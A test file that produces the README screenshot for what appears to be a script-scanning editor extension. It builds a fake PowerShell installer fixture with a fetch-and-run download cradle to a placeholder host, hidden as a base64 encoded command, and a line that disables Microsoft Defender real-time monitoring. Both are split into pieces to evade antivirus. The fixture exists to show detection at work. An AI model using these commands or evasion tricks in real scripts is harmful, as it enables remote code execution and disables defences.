/** The picture at the top of the README. `npm run screenshot` makes it and puts it into media/. */

import assert from 'node:assert/strict';
import { openWorkbench } from './workbench';

// In pieces, as all that an antivirus could flag.
/** A download cradle. */
const command = Buffer.from(['ie', 'x (ir', 'm https://cdn.example.invalid/a.ps1)'].join(''), 'utf16le');

const preference = ['Set-MpPref', 'erence -DisableReal', 'timeMonitoring $true'].join('');

const script = `# Sets up the monitoring agent on a new server.
[CmdletBinding()]
param(
    [Parameter(Mandatory)]
    [string] $Server,

    [string] $LogPath = "$env:ProgramData\\Agent\\install.log"
)

function Write-Log([string] $Message) {
    "$(Get-Date -Format s) $Message" | Add-Content -Path $LogPath
}

Write-Log "Installing the agent for $Server"
${preference}
powershell.exe -NoProfile -EncodedCommand ${command.toString('base64')}
`;

describe('the README', () => {
  it('gets a picture of a flagged script', async () => {
    const workbench = await openWorkbench({
      files: {
        'Install-Agent.ps1': script,
        'logon/Map-Drives.vbs': "' Maps the drives of a department.\n",
        'reports/Get-DiskReport.ps1': '# Free space of each volume.\n',
      },
      viewport: { width: 1400, height: 800 },
      settings: {
        'editor.hover.above': false,
        'editor.occurrencesHighlight': 'off',
        'editor.scrollBeyondLastLine': false,
        'editor.scrollbar.horizontal': 'hidden',
      },
    });
    const { page } = workbench;
    // What only a window in a browser has.
    for (const id of ['status.forwardedPorts', 'status.workbench.keyboardLayout']) {
      const item = page.locator(`.statusbar-item[id="${id}"]`);
      await workbench.choose(await workbench.contextMenu(item, "Hide '"));
      await item.waitFor({ state: 'hidden' });
    }
    await workbench.openFile('Install-Agent.ps1');
    await workbench.squiggle('error');
    await page.keyboard.press('Control+Shift+M');
    await workbench.problems.filter({ hasText: 'Microsoft Defender' }).first().waitFor();
    const hover = await workbench.hover(await workbench.squiggle('warning'));
    assert.match(hover, /In decoded text: A script is downloaded/);
    await workbench.screenshot('readme');
    await workbench.close();
  });
});
